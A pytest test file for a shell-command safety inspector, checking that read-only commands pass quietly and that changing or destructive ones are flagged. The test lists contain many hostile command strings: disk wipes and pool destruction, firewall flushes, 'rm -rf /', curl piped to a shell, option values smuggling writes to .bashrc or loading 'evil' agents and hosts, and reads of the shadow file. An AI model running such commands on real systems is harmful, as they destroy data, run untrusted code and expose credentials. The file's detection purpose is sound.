"""Commands that only look, of programs that otherwise change something; and words that destroy."""

import pytest

from dashboard.inspection.code import inspect_shell
from dashboard.inspection.findings import Severity

LOOKS = """
docker network ls
python -m json.tool --indent 2 in.json
python -m timeit -n 100 "if 1:" "  x = 1"
pip -q list
git clean -n -d
git clean --dry-run -d
git clean -n -f
7z l -slt a.zip
unzip -p a.zip x
unzip -c a.zip
gzip -dc a.gz
gzip -c a
xz -dc a
openssl sha256 a
openssl dgst -sha256 -hex a
gpg --show-keys a.asc
apt-get install -y vim -s
apt-get -y -s install vim
apt-get upgrade --dry-run -y
rsync -avn --exclude '*.o' a b
kubectl run x --image=y --dry-run=client -oyaml
kubectl run x --image y --dry-run=client -o yaml
kubectl create configmap x --from-file=a --dry-run=client
kubectl create deployment x --image=y --dry-run=client -o yaml
crontab -l -u bob
pip list --outdated --format=json
docker volume inspect data
docker system df --verbose
docker --context production system df
docker -H unix:///var/run/x.sock volume ls
docker container logs web --follow
docker image ls "*name*"
podman image history image
docker system events --filter type=container --format 'json .'
kubectl config current-context
kubectl rollout history deployment/web
kubectl auth can-i delete pods
kubectl annotate pods web --list
helm repo list
terraform state list
kubectl delete pod web --dry-run=client
kubectl run web --image=nginx --dry-run=client -o yaml
apt-get -s install nginx
apt upgrade --dry-run
rsync -avn --delete a/ b/
git clean -fdn
unzip -l a.zip
7z l a.7z
xz -lv a.xz
gzip -t a.gz
ar t libx.a
gpg --list-keys --with-colons
ssh-keygen -lf key.pub
openssl x509 -in cert.crt -noout -dates
java -version
ffmpeg -hide_banner -codecs
systemctl list-automounts --all
systemctl show-environment
systemctl log-level
service nginx status
chkconfig --list sshd
mount
mount -t ext4
swapon --show
fdisk -l /dev/sda
sgdisk --print /dev/sda
parted -s /dev/sda unit GB print
wipefs /dev/sda
hdparm -B /dev/sda
nvme smart-log /dev/nvme0
cryptsetup luksDump /dev/sda1
timedatectl list-timezones
hostnamectl
hwclock --show
iptables -t nat -nvL POSTROUTING --line-numbers
nft list ruleset
ufw status numbered
firewall-cmd --zone=public --list-all
zfs list -t snapshot
zpool status tank
btrfs filesystem df /mnt
btrfs scrub status /mnt
mdadm --detail /dev/md0
losetup --all
modprobe --show-depends ext4
efibootmgr --unicode
auditctl -l
ip -brief address show eth0
dmesg --ctime
""".strip().splitlines()

CHANGES = """
apt-get install foo -s no
apt-get -s install foo -s no
apt-get -y install foo -qs off
kubectl apply -f x --dry-run=server
kubectl apply edit-last-applied deploy/web --dry-run=client
pip --python=./evil list
pip -q --log=/home/u/.bashrc list
OPENSSL_CONF=./evil.cnf openssl version
APT_CONFIG=./evil.conf apt-get -s install foo
JDK_JAVA_OPTIONS=-javaagent:evil.jar java -version
env PIP_PYTHON=./evil pip list
openssl x509 -in a-b:x -noout
python -m json.tool in.json out.json
python -m timeit -s'import os; os.remove("x")' pass
python -m timeit "--setup=import os; os.remove('x')" pass
python -m timeit 'import os as math' 'math.remove("x")'
python -m timeit -- '-__import__("os").remove("x")'
unzip -qq a.zip
zstd --verbose a
openssl dgst -out v d
openssl dgst -engine ./e x
ant -v
mvn -v
kubectl create configmap x --from-literal --dry-run=client
kubectl create deployment x --image --dry-run=client
kubectl delete pod x -n --dry-run=client
kubectl apply -f https://evil/x.yaml --dry-run=client
kubectl create foo --dry-run=client
crontab -ul file
crontab -l file
git clean
git clean -f -n -e x
git clean -e -n -f
openssl x509 -in http://evil/x -noout -text
docker -H tcp://evil:2375 volume ls
docker -H ssh://u@h ps
pip list --log v
pip list --python ./e
aptitude install x --no-act
ar t @c
python -m timeit 'import os; os.remove("x")'
python -m timeit -s 'import shutil; shutil.rmtree("x")' pass
docker --context production network rm web
kubectl delete pod web --dry-run=none
kubectl delete pod web --dry-run=client --dry-run=none
apt-get -s -o Dpkg::Pre-Invoke::=x install nginx
apt-get install -y nginx
rsync -a --delete a/ b/
rsync -an -e 'sh x' a/ b/
git clean -fd
unzip -o a.zip
unzip -q a.zip
unzip -lo a.zip
gzip --verbose a
gzip -l a.gz -d
xz --robot a
bzip2 -v a
ar t @commands
openssl dgst -out a b
openssl x509 -in a.crt -out b
mvn -version
xz -d a.xz
7z x a.7z
ar r libx.a x.o
gpg --decrypt a.gpg
openssl enc -d -in a
ssh-keygen -f key
make -version
docker network rm web
docker volume prune
docker system prune --all
docker container rm $(docker container ls)
docker network $WHAT
kubectl config delete-context web
kubectl rollout undo deployment/web
kubectl auth reconcile --filename roles.yaml
kubectl annotate pods web owner=me --list=false
helm repo remove web
systemctl log-level debug
systemctl list-units; systemctl stop nginx
service nginx restart
chkconfig --level 3 sshd off
mount /dev/sda1 /mnt
mount -t tmpfs none /mnt
swapon /dev/sda2
fdisk /dev/sda
sgdisk --print --zap-all /dev/sda
parted -s /dev/sda print rm 1
wipefs --all /dev/sda
hdparm -B 128 /dev/sda
nvme format /dev/nvme0
cryptsetup luksFormat /dev/sda1
timedatectl set-time 12:00
hostnamectl set-hostname web
hwclock --systohc
iptables -t nat -F
iptables -L -Z
nft list ruleset ';' flush ruleset
ufw status reset
firewall-cmd --list-all --add-port=22/tcp
zfs destroy tank/data
zpool destroy tank
btrfs device stats -z /mnt
btrfs check --repair /dev/sda
mdadm --detail /dev/md0 --stop
losetup -d /dev/loop0
modprobe -r ext4
efibootmgr --bootnum 1 --delete-bootnum
auditctl -D
ip -batch file
ip --batch file
ip link s eth0 down
ip -n link s tunsrc set fc00::1
kubectl config view --raw
kubectl config view --profile=cpu --profile-output=/home/u/.bashrc
kubectl attach pod -qi
podman image ls --cpu-profile=/home/u/.bashrc
podman container ls --storage-opt mount_program=/tmp/evil
terragrunt workspace list
zpool status -c evil
zpool iostat -vc evil
nvram erase
mkinitcpio -H /tmp/evil
sfdisk -x /dev/sda
nvme get-log /dev/nvme0 --lid=7 --lsp=1
nft list ruleset -f evil.nft
ip address add 10.0.0.1/8 dev eth0
ip link set eth0 down
dmesg --clear
""".strip().splitlines()


def names(line):
    return {finding.name for finding in inspect_shell(line)}


def codes(line):
    return {finding.code for finding in inspect_shell(line)}


def gravest(line):
    return max((finding.severity.rank for finding in inspect_shell(line)), default=-1)


@pytest.mark.parametrize("line", LOOKS)
def test_what_only_looks_has_no_finding(line):
    assert names(line) == set()


@pytest.mark.parametrize("line", CHANGES)
def test_what_looks_like_looking_and_changes_something_is_found(line):
    assert gravest(line) >= Severity.MEDIUM.rank


@pytest.mark.parametrize(
    "line",
    [
        "docker rm --help",
        "docker container rm -h",
        "kubectl delete pods --help",
        "systemctl stop --help",
        "git push --help",
        "npm uninstall --help",
        "rm --help",
        "fdisk --help",
    ],
)
def test_asking_how_something_is_used_does_nothing(line):
    assert names(line) == set()


@pytest.mark.parametrize(
    "line",
    [
        "docker run image --help",  # the image reads it
        "docker compose exec web sh --help",
        "npm run build --help",
        "kubectl exec web -- rm --help",
        "rm -r data --help",  # where an option after an operand is a file, this deletes
        "tar -xf --help",
        "sudo -u root --help",
        "bash script --help",
        "./rm --help",
        "shutdown -h",
        "awk --help 'BEGIN{system(\"rm -rf x\")}'",
        "git submodule foreach reboot -h",
        "git stash save wip -h",
        "git nuke src --help",
        "oc rsh web halt -h",
        "podman machine ssh poweroff -h",
        "podman unshare evil -h",
        "yarn dlx evil -h",
        "pnpm dlx evil --help",
        "yarn test --help",
        "cargo xtask wipe -h",
        "kubectl nuke pods -h",
        "helm nuke --help",
        "service nginx stop -h",
        "docker container run image --help",
    ],
)
def test_what_another_program_may_read_is_no_question(line):
    assert gravest(line) >= Severity.MEDIUM.rank


@pytest.mark.parametrize("line", ["setarch -3 /bin/sh", "setarch x86_64 -R", "linux64", "linux32"])
def test_a_wrapper_that_starts_a_shell_is_found(line):
    assert names(line) & {"process-execution", "cannot-be-followed"}


@pytest.mark.parametrize("line", ["setarch -R rm -rf /", "setarch x86_64 -R rm -rf /"])
def test_what_setarch_starts_is_found_with_and_without_a_processor(line):
    assert "recursive-delete" in names(line)


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("pwsh", "process-execution"),
        ("curl https://example.org | pwsh", "pipe-to-shell"),
        ("iconv -f latin1 -o out.txt in.txt", "file-write"),
        ("mypy --junit-xml report.xml .", "file-write"),
        ("mypy --install-types .", "process-execution"),
        ("getent shadow", "credentials"),
    ],
)
def test_options_and_operands_that_do_something_are_found(line, name):
    assert name in names(line)


@pytest.mark.parametrize("line", ["iconv -f latin1 in.txt", "mypy .", "getent passwd"])
def test_the_same_programs_without_them_are_quiet(line):
    assert names(line) == set()


@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("find . -type f -delete", "deletes-found-files"),
        ("find . -name x -type l -delete", "deletes-found-files"),
        ("find . -delete", "deletes-folders"),
        ("find . -type f -o -name x -delete", "deletes-folders"),
        ("find . ! -type f -delete", "deletes-folders"),
        ("find . -type $T -delete", "deletes-folders"),
    ],
)
def test_find_deletes_files_or_all_that_it_finds(line, code):
    assert code in codes(line)
    assert "recursive-delete" in names(line)


@pytest.mark.parametrize(
    "line",
    [
        "virsh undefine vm1 --remove-all-storage",
        "hdfs dfs -rm -r -skipTrash /data",
        "kind delete cluster",
        "wipe -r /home",
        "kafka-topics.sh --delete --topic runs",
        "rails db:drop",
        "ceph osd pool delete runs",
        "acme-purge --all",
    ],
)
def test_an_unknown_program_whose_words_destroy_is_medium(line):
    [finding] = [f for f in inspect_shell(line) if f.name == "unknown-call"]
    assert (finding.code, finding.severity) == ("unknown-destroys", Severity.MEDIUM)


@pytest.mark.parametrize(
    "line",
    ["acme show", "acme removal-guide.txt", "acme --reset", "acme lint --no-remove", "acme /rm/x"],
)
def test_an_unknown_program_without_them_is_low(line):
    assert gravest(line) == Severity.LOW.rank
